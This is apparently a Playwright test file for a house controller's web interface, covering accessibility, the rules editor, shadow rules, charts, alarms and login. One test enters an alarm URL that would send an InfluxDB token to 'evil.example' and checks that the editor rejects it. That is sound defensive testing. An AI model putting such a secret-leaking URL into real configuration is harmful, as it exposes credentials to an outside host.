"""The page in a real browser, on a running house: looked at, used, and read by a program for the blind."""

from __future__ import annotations

import json
import re
import signal
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest

pytest.importorskip("playwright", reason="the package playwright is not installed")

from playwright.sync_api import Browser, Page, expect

from controller.app.control import ask
from controller.web.access import Users

from .browser import CHROMIUM, DESK, PHONE, SHOTS, PageHouse, barriers, looker, page_house

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's package chromium is not installed")

PAGES = {
    "/": "#drawing svg",
    "/charts": "#chart[data-drawn]",
    "/hand": "#a-heater",
    "/rules": "#sentences li",
    "/alarms": "#standing .alarm",
    "/devices": "section table",
    "/system": "#numbers dl",
}
SIZES = {"phone": PHONE, "desk": DESK}
WAIT = 15_000  # ms
CHECKED = 60_000  # ms; a check stands back behind everything else that the machine has to do


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PageHouse]:
    with page_house(tmp_path_factory.mktemp("house")) as found:
        yield found


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("language", ["en", "ko"])
@pytest.mark.parametrize("path", PAGES)
def test_every_page_can_be_seen_and_read(
    browser: Browser, house: PageHouse, path: str, language: str, size: str, scheme: str
) -> None:
    with looker(browser, house.url, SIZES[size], language, color_scheme=scheme) as seen:
        page = seen.page
        page.goto(house.url + path)
        page.wait_for_selector(PAGES[path], timeout=WAIT)
        expect(page.locator("html")).to_have_attribute("lang", language)
        SHOTS.mkdir(parents=True, exist_ok=True)
        name = path.strip("/") or "now"
        page.screenshot(path=SHOTS / f"{name}-{language}-{size}-{scheme}.png", full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "the page is wider than the screen"
        assert barriers(page) == []
        assert seen.complaints == []


@pytest.mark.parametrize("width", [320, 390, 980])
def test_all_of_a_device_is_seen_without_pushing_its_table_aside(
    browser: Browser, house: PageHouse, width: int
) -> None:
    with looker(browser, house.url, {"width": width, "height": 844}) as seen:
        seen.page.goto(f"{house.url}/devices")
        seen.page.wait_for_selector(".devices", timeout=WAIT)
        assert seen.page.evaluate("[...document.querySelectorAll('.wide')].every(e => e.scrollWidth <= e.clientWidth)")
        requests = seen.page.locator(".devices td[data-title=Requests]").first
        assert requests.evaluate("each => getComputedStyle(each, '::before').content") == '"Requests "'


def test_the_values_move_by_themselves(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        seen.page.goto(house.url)
        clock = seen.page.locator("#clock time")
        before = clock.inner_text()
        expect(clock).not_to_have_text(before, timeout=WAIT)
        assert seen.complaints == []


def test_a_hand_is_placed_and_goes_back_by_itself(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url, PHONE) as seen:
        page = seen.page
        page.goto(f"{house.url}/hand")
        page.click("#a-shade_screen button, #a-shade-5f-screen button")
        page.wait_for_selector("dialog[open] form")
        slider = page.locator("dialog input[type=range]")
        slider.fill("40")
        expect(page.locator("#position")).to_have_text("40 %")
        page.select_option("dialog select", "300")
        page.click("dialog button.primary")
        expect(page.locator("dialog .question")).to_contain_text("40 %")
        assert house.actuator("shade_screen")["hand"] is None
        page.screenshot(path=SHOTS / "hand-confirm.png")
        page.click("dialog button.primary")
        row = page.locator("#a-shade-5f-screen")
        expect(row).to_contain_text("the page holds it by hand until", timeout=WAIT)
        assert house.actuator("shade_screen")["hand"]["value"] == 40
        expect(row).not_to_contain_text("by hand", timeout=WAIT)  # five minutes of the house are five seconds
        assert house.actuator("shade_screen")["hand"] is None
        page.reload()
        expect(page.locator("table")).to_contain_text("override to 40 % by the page for 5 min", timeout=WAIT)
        assert seen.complaints == []


def test_the_dialog_can_be_used_by_keyboard_alone(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        page = seen.page
        page.goto(f"{house.url}/hand")
        page.keyboard.press("Tab")
        expect(page.locator(".skip")).to_be_focused()
        page.locator("#a-heater button").focus()
        page.keyboard.press("Enter")
        page.wait_for_selector("dialog[open] form")
        assert page.evaluate("document.querySelector('dialog').contains(document.activeElement)")
        page.keyboard.press("Escape")
        expect(page.locator("dialog")).not_to_be_visible()


def replace_in_editor(page: Page, old: str, new: str) -> None:
    """Find a text in the editor and type another in its place, as a person does."""
    page.click(".cm-content")
    page.keyboard.press("Control+f")
    page.locator(".cm-search [name=search]").press_sequentially(old)
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")
    page.keyboard.type(new)


def test_a_wrong_rule_is_shown_at_its_line_and_a_right_one_is_applied(browser: Browser, house: PageHouse) -> None:
    before = house.rules()
    line = next(n for n, text in enumerate(before.splitlines(), 1) if "outside.wind_speed > 15 m/s" in text)
    with looker(browser, house.url) as seen:
        page = seen.page
        page.goto(f"{house.url}/rules")
        expect(page.locator("#state")).to_have_text("These rules are in force.", timeout=WAIT)
        replace_in_editor(page, "outside.wind_speed > 15 m/s", "outside.wind_sped > 15 m/s")
        error = page.locator("#findings .error")
        expect(error).to_contain_text(f"Line {line}", timeout=WAIT)
        expect(error).to_contain_text("did you mean outside.wind_speed?")
        expect(page.locator("#apply")).to_be_disabled()
        page.screenshot(path=SHOTS / "rules-wrong.png")
        assert house.rules() == before
        replace_in_editor(page, "outside.wind_sped > 15 m/s", "outside.wind_speed > 14 m/s")
        expect(page.locator("#apply")).to_be_enabled(timeout=WAIT)
        page.click("#try")
        expect(page.locator("#trial")).to_contain_text("3 days", timeout=90_000)
        expect(page.locator("#trial")).to_contain_text("irrigation")
        page.click("#apply")
        expect(page.locator("#state")).to_have_text("Applied. The new rules are in force.", timeout=WAIT)
        after = before.replace("outside.wind_speed > 15 m/s", "outside.wind_speed > 14 m/s")
        assert house.rules() == after
        assert [*re.findall("#.*", after)] == [*re.findall("#.*", before)]

        # and back again, by the list of versions
        page.goto(f"{house.url}/rules")
        expect(page.locator(".versions li")).to_have_count(2, timeout=WAIT)
        page.click(".versions li:nth-child(2) button")
        expect(page.locator(".diff .added")).to_contain_text("15 m/s")
        page.screenshot(path=SHOTS / "rules-version.png")
        page.click("dialog button.primary")
        expect(page.locator("dialog")).not_to_be_visible(timeout=WAIT)
        assert house.rules() == before
        assert not [text for text in seen.complaints if "422" not in text]


def test_rules_run_beside_those_in_force_through_a_restart_until_they_are_applied(
    browser: Browser, house: PageHouse
) -> None:
    before = house.rules()
    after = before.replace("roof_vent: at most 5 %", "roof_vent: at most 5 %, fan: on")
    with looker(browser, house.url, DESK, "ko") as seen:
        page = seen.page
        page.goto(f"{house.url}/rules")
        expect(page.locator("#state")).to_have_text("이 규칙이 시행 중입니다.", timeout=CHECKED)
        expect(page.locator("#shadow-part")).to_be_hidden()
        expect(page.locator("#beside")).to_be_disabled()
        # a storm that always blows, and drives the fan as well
        replace_in_editor(page, "outside.wind_speed > 15 m/s", "outside.wind_speed > -1 m/s")
        replace_in_editor(page, "outside.wind_speed < 11 m/s", "outside.wind_speed < -2 m/s")
        replace_in_editor(page, "roof_vent: at most 5 %", "roof_vent: at most 5 %, fan: on")
        expect(page.locator("#beside")).to_be_enabled(timeout=CHECKED)
        page.click("#beside")
        expect(page.locator("#state")).to_have_text("이 규칙이 시행 중인 규칙과 나란히 실행됩니다.", timeout=CHECKED)
        expect(page.locator("#shadow")).to_contain_text("the page", timeout=WAIT)
        expect(page.locator("#shadow-now")).to_contain_text("안전: “Storm”이(가) 그 위치로 유지합니다.", timeout=WAIT)
        page.click("#beside")
        expect(page.locator("#state")).to_contain_text("먼저 끝내세요", timeout=CHECKED)
        assert house.rules() == before
        assert not house.actuator("fan")["on"]
        house.stop()
        house.start()
        page.goto(f"{house.url}/rules")
        expect(page.locator("#shadow-now")).to_contain_text("Storm", timeout=WAIT)
        assert [
            text for text in seen.complaints if "ERR_" not in text and text != "[object Event]" and "400" not in text
        ] == []
    for name, (language, scheme) in product(SIZES, (("en", "light"), ("ko", "dark"))):
        with looker(browser, house.url, SIZES[name], language, color_scheme=scheme) as seen:
            page = seen.page
            page.goto(f"{house.url}/rules")
            page.wait_for_selector("#sentences li", timeout=WAIT)
            for summary in page.locator("#shadow-part summary").all():
                summary.click()
            expect(page.locator("#shadow-found tbody tr").first).to_be_visible()
            page.screenshot(path=SHOTS / f"rules-shadow-{language}-{name}-{scheme}.png", full_page=True)
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "wider than the screen"
            assert barriers(page) == []
            page.click("#shadow button >> nth=0")
            page.wait_for_selector("dialog[open] .diff")
            assert barriers(page) == []
            assert seen.complaints == []
    with looker(browser, house.url, PHONE) as seen:
        page = seen.page
        page.goto(f"{house.url}/rules")
        page.click("#shadow button:has-text('apply')")
        expect(page.locator(".diff .added").first).to_contain_text("-1 m/s")
        page.click("dialog button.primary")
        expect(page.locator("dialog")).not_to_be_visible(timeout=WAIT)
        expect(page.locator("#shadow-part")).to_be_hidden(timeout=WAIT)
        assert house.rules() == after.replace("> 15 m/s", "> -1 m/s").replace("< 11 m/s", "< -2 m/s")
        assert seen.complaints == []


def test_a_shadow_is_ended_by_one_who_is_asked_twice(browser: Browser, house: PageHouse) -> None:
    question = {"do": "begin shadow", "rules": house.rules() + "# another\n", "by": "Kim"}
    with looker(browser, house.url, PHONE) as seen:
        page = seen.page
        page.goto(f"{house.url}/rules")
        expect(page.locator("#shadow-part")).to_be_hidden()
        ask(house.state, question, WAIT / 1000)
        expect(page.locator("#shadow")).to_contain_text("Begun by Kim", timeout=WAIT)  # without a reload
        page.click("#shadow button:has-text('End')")
        expect(page.locator("dialog h2")).to_have_text("End the shadow?")
        page.click("dialog button[data-close]")
        expect(page.locator("#shadow-part")).to_be_visible()
        page.click("#shadow button:has-text('End')")
        page.click("dialog button.primary")
        expect(page.locator("#toast")).to_have_text("The shadow has ended.", timeout=WAIT)
        expect(page.locator("#shadow-part")).to_be_hidden(timeout=WAIT)
        page.goto(f"{house.url}/system")
        expect(page.locator("table")).to_contain_text("ended by the page; differences: 0", timeout=WAIT)
        assert seen.complaints == []


def test_a_secret_that_is_not_in_force_is_refused_in_the_editor(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url, PHONE, "ko") as seen:
        page = seen.page
        page.goto(f"{house.url}/rules")
        page.wait_for_selector("#sentences li", timeout=WAIT)
        replace_in_editor(page, 'high: ["${ALARM_URL}"]', 'high: ["http://evil.example/${INFLUX_TOKEN}"]')
        error = page.locator("#findings .error")
        expect(error).to_contain_text("${INFLUX_TOKEN}", timeout=WAIT)
        expect(error).to_contain_text("제어기에서 직접 rules.yaml을 고치세요")
        expect(page.locator("#apply")).to_be_disabled()
        page.screenshot(path=SHOTS / "rules-secret-ko-phone.png", full_page=True)
        assert barriers(page) == []


def test_a_chart_is_zoomed_by_dragging(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        page = seen.page
        page.goto(f"{house.url}/charts?length=3600")
        page.wait_for_selector("#chart[data-drawn]", timeout=WAIT)
        whole, drawn = page.inner_text("#chart-title"), page.get_attribute("#chart", "data-drawn")
        box = page.locator("#chart .u-over").bounding_box()
        assert box is not None
        y = box["y"] + box["height"] / 2
        page.mouse.move(box["x"] + box["width"] * 0.5, y)
        page.mouse.down()
        page.mouse.move(box["x"] + box["width"] * 0.9, y, steps=5)
        page.mouse.up()
        expect(page.locator("#chart")).not_to_have_attribute("data-drawn", str(drawn), timeout=WAIT)
        assert page.inner_text("#chart-title") != whole
        page.screenshot(path=SHOTS / "charts-zoomed.png")
        with page.expect_download() as download:
            page.click("[data-format=csv]")
        rows = Path(download.value.path()).read_text(encoding="utf-8-sig").splitlines()
        assert rows[0].startswith("time,air.temperature [°C],air.humidity [%]")
        assert 20 <= len(rows) <= 27  # 40 % of an hour, a row a minute
        assert seen.complaints == []


def test_an_alarm_is_acknowledged(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url, PHONE, "ko") as seen:
        page = seen.page
        page.goto(f"{house.url}/alarms")
        row = page.locator("#standing .alarm", has_text="Test lamp")
        row.locator("button").click()
        expect(row.locator("button")).to_have_count(0, timeout=WAIT)
        expect(page.locator("table")).to_contain_text("Test lamp")
        alarm = next(each for each in house.status()["alarms"] if each["name"] == "Test lamp")
        assert alarm["state"] == "acknowledged"
        assert seen.complaints == []


def test_the_page_lives_through_a_restart_of_the_controller(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        page = seen.page
        page.goto(house.url)
        clock = page.locator("#clock time")
        page.wait_for_selector("#drawing svg")
        house.stop(signal.SIGKILL)
        expect(page.locator("#lost")).to_be_visible(timeout=WAIT)
        stood = clock.inner_text()
        house.start()
        expect(page.locator("#lost")).not_to_be_visible(timeout=WAIT)
        expect(clock).not_to_have_text(stood, timeout=WAIT)
        # the browser and htmx say that the connection was lost; nothing else may be wrong
        assert not [text for text in seen.complaints if "ERR_" not in text and text != "[object Event]"]


def test_it_works_without_any_other_server(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        asked: set[str] = set()
        seen.page.on("request", lambda request: asked.add(request.url.split("/")[2]))
        for path, ready in PAGES.items():
            seen.page.goto(house.url + path)
            seen.page.wait_for_selector(ready, timeout=WAIT)
        assert asked == {f"localhost:{house.port}"}


def test_it_can_be_installed_as_an_app(browser: Browser, house: PageHouse) -> None:
    with looker(browser, house.url) as seen:
        seen.page.goto(house.url)
        scope = seen.page.evaluate("navigator.serviceWorker.ready.then((worker) => worker.scope)")
        assert scope == f"{house.url}/"
        session = seen.page.context.new_cdp_session(seen.page)
        manifest = session.send("Page.getAppManifest")
        assert manifest["errors"] == []
        assert json.loads(manifest["data"])["display"] == "standalone"


def test_a_login_in_the_browser(browser: Browser, house: PageHouse) -> None:
    users = Users(house.state)
    users.add("lee", "viewer", "geranium-blossom")  # from now on everybody has to log in
    try:
        with looker(browser, house.url, PHONE, "ko") as seen:
            page = seen.page
            page.goto(f"{house.url}/rules")
            expect(page).to_have_url(f"{house.url}/login?next=/rules")
            page.screenshot(path=SHOTS / "login-ko-phone.png")
            assert barriers(page) == []
            page.fill("[name=name]", "lee")
            page.fill("[name=password]", "wrong-password")
            page.keyboard.press("Enter")
            expect(page.locator("[role=alert]")).to_have_text("이름 또는 비밀번호가 틀립니다.")
            page.fill("[name=name]", "lee")
            page.fill("[name=password]", "geranium-blossom")
            page.keyboard.press("Enter")
            expect(page).to_have_url(f"{house.url}/rules")
            page.wait_for_selector("#sentences li", timeout=WAIT)
            expect(page.locator("#apply")).to_have_count(0)
            assert barriers(page) == []
            page.click("form[action='/logout'] button")
            expect(page).to_have_url(f"{house.url}/login")
            assert not [text for text in seen.complaints if "403" not in text]  # the wrong password
    finally:
        users.remove("lee")
